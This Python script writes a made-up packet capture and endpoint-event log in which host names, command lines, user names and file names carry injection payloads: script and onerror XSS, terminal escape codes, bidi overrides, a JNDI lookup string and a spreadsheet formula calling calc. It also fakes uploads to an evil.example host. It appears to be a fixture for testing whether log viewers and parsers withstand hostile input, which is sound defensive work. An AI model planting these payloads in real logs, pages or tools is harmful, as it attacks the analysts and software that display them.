#!/usr/bin/env python3
"""Writes hostile.pcap and hostile.ndjson: flows and endpoint events whose names, hosts, command lines, users and files attack whoever shows them.
Everything is made up here, nothing was recorded. Usage: make_hostile.py [DIRECTORY]"""
import json
import pathlib
import socket
import struct
import sys

START = 1772445600.25  # 2026-03-02T10:00:00.25Z
ESC = "\x1b[2J\x1b]0;owned\x07"
MARKUP = "<script>alert('{0}')</script><img src=x onerror=\"alert('{0}')\">"
BIDI = "\u202egpj.\u200b"


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


class Capture:
    def __init__(self):
        self.frames = []

    def frame(self, t, src, dst, segment, proto=6):
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(segment), 0, 0x4000, 64, proto, 0, src, dst)
        head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
        self.frames.append((t, b"\x52\x54\0\x65\x43\x21\x52\x54\0\x12\x34\x56\x08\0" + head + segment))

    def write(self, path):
        with open(path, "wb") as out:
            out.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 262144, 1))
            for t, f in sorted(self.frames, key=lambda x: x[0]):
                us = round(t * 1e6)
                out.write(struct.pack("<IIII", us // 1000000, us % 1000000, len(f), len(f)) + f)


class Tcp:
    """A connection in which every byte is acknowledged."""

    def __init__(self, cap, t, src, sport, dst, dport):
        self.cap, self.t = cap, t
        self.ends = [(socket.inet_aton(src), sport), (socket.inet_aton(dst), dport)]
        self.seq = [1000, 900000]
        for d, flags in ((0, 2), (1, 18)):
            self.segment(d, b"", flags)
            self.seq[d] += 1
        self.segment(0, b"", 16)

    def segment(self, d, data, flags):
        (src, sport), (dst, dport) = self.ends[d], self.ends[1 - d]
        tcp = struct.pack(">HHIIBBHHH", sport, dport, self.seq[d], self.seq[1 - d] if flags & 16 else 0, 0x50, flags, 64000, 0, 0) + data
        pseudo = src + dst + struct.pack(">BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
        self.cap.frame(self.t, src, dst, tcp)
        self.t += 0.0007

    def send(self, d, data):
        for at in range(0, len(data), 1400):
            part = data[at:at + 1400]
            self.segment(d, part, 24)
            self.seq[d] += len(part)
            self.segment(1 - d, b"", 16)

    def close(self):
        for d in (0, 1):
            self.segment(d, b"", 17)
            self.seq[d] += 1
            self.segment(1 - d, b"", 16)


def vector(n, data):
    return len(data).to_bytes(n, "big") + data


def record(kind, data):
    return struct.pack(">BHH", kind, 0x0303, len(data)) + data


def client_hello(sni):
    extensions = struct.pack(">H", 0) + vector(2, vector(2, b"\0" + vector(2, sni)))
    extensions += struct.pack(">H", 16) + vector(2, vector(2, vector(1, b"http/1.1<b>")))
    body = b"\x03\x03" + b"\x11" * 32 + vector(1, b"") + vector(2, b"\xc0\x2f\xc0\x30") + vector(1, b"\0") + vector(2, extensions)
    return record(22, b"\x01" + vector(3, body))


def server_hello():
    body = b"\x03\x03" + b"\x22" * 32 + vector(1, b"") + b"\xc0\x2f\0"
    return record(22, b"\x02" + vector(3, body)) + record(22, b"\x0e\0\0\0") + record(20, b"\x01") + record(22, b"\x33" * 40)


def tls_upload(cap, t, sport, dst, sni, n):
    c = Tcp(cap, t, "10.20.4.31", sport, dst, 443)
    c.send(0, client_hello(sni))
    c.send(1, server_hello())
    c.send(0, record(22, b"\x10" + vector(3, b"\x44" * 65)) + record(20, b"\x01") + record(22, b"\x55" * 40))
    while n > 0:
        c.send(0, record(23, b"\x66" * min(n + 24, 16384)))
        n -= 16360
    c.send(1, record(23, b"\x77" * 324))
    c.close()


def http_upload(cap, t, sport, dst, host, n):
    c = Tcp(cap, t, "10.20.4.31", sport, dst, 80)
    c.send(0, b"PUT /x HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: " + str(n).encode() + b"\r\n\r\n" + b"z" * n)
    c.send(1, b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")
    c.close()


def iso(t):
    import datetime
    return datetime.datetime.fromtimestamp(t, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"


class Events:
    def __init__(self):
        self.rows = []

    def row(self, table, t, **columns):
        p = {"Timestamp": iso(t), "DeviceId": "d" * 40, "DeviceName": "ws-0431<b>.corp.example", "ReportId": 1 + len(self.rows)}
        p.update(columns)
        self.rows.append({"time": iso(t + 60), "category": f"AdvancedHunting-{table}", "properties": p})

    def by(self, name, pid, command, user, parent):
        return {"InitiatingProcessFileName": name, "InitiatingProcessId": pid, "InitiatingProcessFolderPath": "c:\\x\\" + name,
                "InitiatingProcessCommandLine": command, "InitiatingProcessCreationTime": iso(START - 5 + pid / 1e4), "InitiatingProcessAccountName": user,
                "InitiatingProcessAccountDomain": "corp", "InitiatingProcessParentFileName": parent, "InitiatingProcessParentId": 4}

    def connect(self, t, sport, dst, dport, url, **by):
        self.row("DeviceNetworkEvents", t, ActionType="ConnectionSuccess", RemoteIP=dst, RemotePort=dport, RemoteUrl=url, LocalIP="10.20.4.31",
                 LocalPort=sport, Protocol="Tcp", **by)


def main():
    out = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else pathlib.Path(__file__).resolve().parent)
    cap, ev = Capture(), Events()
    ps = ev.by("powershell.exe", 4100, "powershell -c \"" + MARKUP.format("cmd") + "\" " + ESC + BIDI + " =1+1|calc ${jndi:ldap://x} %n%s " + "A" * 3000,
               "eve<b>" + BIDI + "&amp;", "cmd</title><script>alert('parent')</script>.exe")
    odd = ev.by("x' onerror='alert(&quot;image&quot;)&lt;.exe", 4200, "\u2028\u2029\ufeff\x85" + ESC, "o'\"`user", "javascript:alert(1)")
    tls_upload(cap, START, 50001, "20.60.133.132", b"dropzone.blob.core.windows.net", 6000)
    tls_upload(cap, START + 2, 50002, "20.60.133.132", b"<img/src=x onerror=alert(2)>\x1b[31m\xff\xc0\xaf.evil.example", 7000)
    http_upload(cap, START + 4, 50003, "203.0.113.9", b"\"><script>alert('host')</script>\x1b[5m\xe2\x80\xae.example", 8000)
    ev.row("DeviceFileEvents", START - 2, ActionType="FileCreated", FileName="\"><script>alert('zip')</script>" + BIDI + ".zip",
           FolderPath="C:\\x\\\"><script>alert('zip')</script>" + BIDI + ".zip", FileSize=60000, **ps)
    ev.connect(START + 0.02, 50001, "20.60.133.132", 443, "dropzone.blob.core.windows.net", **ps)
    ev.connect(START + 2.02, 50002, "20.60.133.132", 443, "", **odd)
    ev.connect(START + 4.02, 50003, "203.0.113.9", 80, "", **odd)
    cap.write(out / "hostile.pcap")
    with open(out / "hostile.ndjson", "w", encoding="ascii") as f:
        for r in ev.rows:
            f.write(json.dumps(r, separators=(",", ":")) + "\n")


main()
